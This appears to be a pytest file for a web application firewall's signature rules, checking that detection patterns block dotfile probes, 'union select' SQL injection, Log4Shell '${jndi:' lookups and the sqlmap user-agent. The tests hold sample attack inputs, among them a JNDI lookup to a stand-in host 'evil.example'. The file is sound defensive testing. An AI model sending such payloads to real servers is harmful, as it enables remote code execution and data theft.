"""Signature rules: a regex on the path, the raw query or header values, naming `<document>/<signature>`."""

from support.screening_inline import BROWSER, HEAD, screen, screener_for

WAF = HEAD + """\
metadata: {name: waf}
signatures:
  - name: dotfiles
    targets: [path]
    pattern: '/\\.(?:git|env)(?:/|$)'
  - name: sqli-union
    targets: [query]
    pattern: '(?i)union(?:\\s|\\+|%20)+select'
  - name: log4shell
    targets: [path, query, headers]
    pattern: '(?i)\\$\\{\\s*jndi\\s*:'
  - name: scanner
    targets: [headers]
    header: user-agent
    pattern: '(?i)\\bsqlmap\\b'
"""


def test_a_clean_request_passes_every_signature() -> None:
    """Browser-like headers with a JWT and an ordinary query match none of the signatures."""
    assert screen(screener_for(WAF), "/api/orders?page=2&q=union+station", headers=BROWSER) is None


def test_a_path_signature_blocks_with_403_and_names_its_rule() -> None:
    """`targets: [path]` searches the path; the rule is `<document name>/<signature name>`."""
    decision = screen(screener_for(WAF), "/app/.git/config")
    assert decision is not None
    assert (decision.reason, decision.status, decision.rule) == ("signature_match", 403, "waf/dotfiles")


def test_a_path_signature_ignores_the_query() -> None:
    """The path target is the path without the query string."""
    assert screen(screener_for(WAF), "/search?q=/.git/") is None


def test_a_query_signature_searches_the_raw_query() -> None:
    """`targets: [query]` searches the query as sent, percent-encoding included."""
    screener = screener_for(WAF)
    for query in ("id=1+UNION+SELECT+pw", "id=1%20union%20select%20pw", "id=1 UnIoN  SeLeCt"):
        decision = screen(screener, f"/items?{query}")
        assert decision is not None and decision.rule == "waf/sqli-union", query


def test_a_headers_signature_searches_every_header_value() -> None:
    """Without `header`, every header value is searched, whichever header carries it."""
    screener = screener_for(WAF)
    for name in ("x-api-version", "referer", "user-agent"):
        decision = screen(screener, "/", headers={name: "${jndi:ldap://evil.example/a}"})
        assert decision is not None and decision.rule == "waf/log4shell", name


def test_a_signature_with_several_targets_checks_each() -> None:
    """One signature can search the path, the query and the headers."""
    screener = screener_for(WAF)
    for url in ("/${jndi:x}", "/?q=${jndi:x}"):
        decision = screen(screener, url)
        assert decision is not None and decision.rule == "waf/log4shell", url


def test_a_header_signature_only_searches_its_header() -> None:
    """With `header: user-agent`, the same text in another header does not match."""
    screener = screener_for(WAF)
    decision = screen(screener, "/", headers={"user-agent": "sqlmap/1.7"})
    assert decision is not None and decision.rule == "waf/scanner"
    assert screen(screener, "/", headers={"x-note": "sqlmap/1.7"}) is None
    assert screen(screener, "/") is None  # the header is absent


def test_the_first_declared_signature_that_matches_is_named() -> None:
    """Signatures are tried in the order they are written; across files, in file order."""
    screener = screener_for(
        HEAD + "metadata: {name: one}\nsignatures:\n  - {name: first, targets: [path], pattern: admin}\n",
        HEAD + "metadata: {name: two}\nsignatures:\n  - {name: second, targets: [path], pattern: '^/admin'}\n",
    )
    decision = screen(screener, "/admin")
    assert decision is not None and decision.rule == "one/first"
    decision = screen(screener_for(
        HEAD + "metadata: {name: two}\nsignatures:\n  - {name: second, targets: [path], pattern: '^/admin'}\n"),
        "/admin")
    assert decision is not None and decision.rule == "two/second"


def test_built_in_checks_run_before_signatures() -> None:
    """A request both a built-in check and a signature would block is named after the built-in check."""
    decision = screen(screener_for(WAF), "/.git/../x")
    assert decision is not None and decision.rule == "screening/path_traversal"


def test_signatures_apply_alongside_the_default_checks() -> None:
    """A document with only signatures keeps the default methods, limits and blocks."""
    screener = screener_for(WAF)
    decision = screen(screener, "/", "TRACE")
    assert decision is not None and decision.rule == "screening/methods"


def test_the_description_of_a_signature_block_is_generic() -> None:
    """The client is told a pattern matched, not which one nor what text."""
    decision = screen(screener_for(WAF), "/?q=${jndi:ldap://x}")
    assert decision is not None
    assert decision.description == "request matches a blocked pattern"
